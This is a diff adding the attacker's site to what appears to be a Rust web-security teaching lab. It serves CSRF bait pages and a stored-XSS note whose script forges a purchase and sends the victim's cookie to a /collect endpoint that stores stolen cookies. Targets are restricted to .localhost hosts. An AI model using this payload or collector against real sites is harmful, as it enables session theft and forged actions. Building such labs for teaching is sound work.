@@ -1,0 +1,113 @@
+//! Mallory's own site: pages that look harmless, and what they brought him.
+
+use std::sync::{Arc, Mutex, PoisonError};
+
+use axum::{
+    Extension, Router,
+    extract::{Query, Request},
+    http::{StatusCode, Uri},
+    response::{Html, Redirect},
+    routing::{get, post},
+};
+use lesson_page::Failure;
+use minijinja::{context, value::Serde};
+use serde::Deserialize;
+
+use crate::{
+    page::PAGES,
+    shop::{ACCOUNTS, Shop},
+};
+
+/// The cookies that were sent here.
+#[derive(Clone, Default)]
+struct Loot(Arc<Mutex<Vec<String>>>);
+
+/// Mallory's site; his notes go to these shops.
+pub(crate) fn routes(shops: [Shop; 2]) -> Router {
+    Router::new()
+        .route("/", get(index))
+        .route("/csrf-by-link", get(bait))
+        .route("/csrf-by-form", get(bait))
+        .route("/login-csrf", get(bait))
+        .route("/notes", get(bait).post(write_notes))
+        .route("/collect", get(collect))
+        .route("/forget", post(forget))
+        .layer(Extension(Loot::default()))
+        .layer(Extension(shops))
+}
+
+#[derive(Deserialize)]
+struct At {
+    /// The host of the twin to attack, such as `vulnerable.localhost:4004`.
+    at: Option<String>,
+}
+
+impl At {
+    /// Only hosts on this machine: these are no weapons.
+    fn host(self) -> Result<String, (StatusCode, &'static str)> {
+        let is_here = |host: &String| {
+            host.parse::<Uri>().is_ok_and(|host| host.host().is_some_and(|name| name.ends_with(".localhost")))
+        };
+        let sentence = "Open this page from the list of attacks, which says whom it is for: ?at=vulnerable.localhost\n";
+        self.at.filter(is_here).ok_or((StatusCode::BAD_REQUEST, sentence))
+    }
+}
+
+async fn index(Extension(loot): Extension<Loot>) -> Result<Html<String>, Failure> {
+    let loot = loot.0.lock().unwrap_or_else(PoisonError::into_inner).clone();
+    PAGES.render("evil.html", context! { loot => Serde(loot) })
+}
+
+async fn bait(Query(at): Query<At>, request: Request) -> axum::response::Result<Html<String>> {
+    let at = at.host()?;
+    let values = context! {
+        kind => request.uri().path().trim_start_matches('/'),
+        at => at,
+        username => ACCOUNTS[3].0,
+        password => ACCOUNTS[3].1,
+        note => note(crate::host(&request)),
+    };
+    Ok(PAGES.render("bait.html", values)?)
+}
+
+// ANCHOR: note
+/// What mallory writes into the shops' notes. It buys a yacht, and sends the cookie home.
+fn note(home: &str) -> String {
+    format!(
+        "Nice shop!<script>
+  const token = document.querySelector('[name=csrf]')?.value ?? '';
+  fetch('/buy', {{ method: 'POST', body: new URLSearchParams({{ item: 'a yacht', csrf: token }}) }});
+  new Image().src = 'http://{home}/collect?cookie=' + encodeURIComponent(document.cookie);
+</script>"
+    )
+}
+// ANCHOR_END: note
+
+/// He could log in and do it by hand; this is quicker.
+async fn write_notes(
+    Extension(shops): Extension<[Shop; 2]>,
+    Query(at): Query<At>,
+    request: Request,
+) -> axum::response::Result<Redirect> {
+    let at = at.host()?;
+    shops.iter().for_each(|shop| shop.write(ACCOUNTS[3].0, &note(crate::host(&request))));
+    Ok(Redirect::to(&format!("http://{at}/")))
+}
+
+#[derive(Deserialize)]
+struct Stolen {
+    cookie: String,
+}
+
+async fn collect(Extension(loot): Extension<Loot>, Query(Stolen { cookie }): Query<Stolen>) -> StatusCode {
+    let mut loot = loot.0.lock().unwrap_or_else(PoisonError::into_inner);
+    if !cookie.is_empty() && loot.len() < 20 {
+        loot.push(cookie.chars().take(200).collect());
+    }
+    StatusCode::NO_CONTENT
+}
+
+async fn forget(Extension(loot): Extension<Loot>) -> Redirect {
+    loot.0.lock().unwrap_or_else(PoisonError::into_inner).clear();
+    Redirect::to("/")
+}
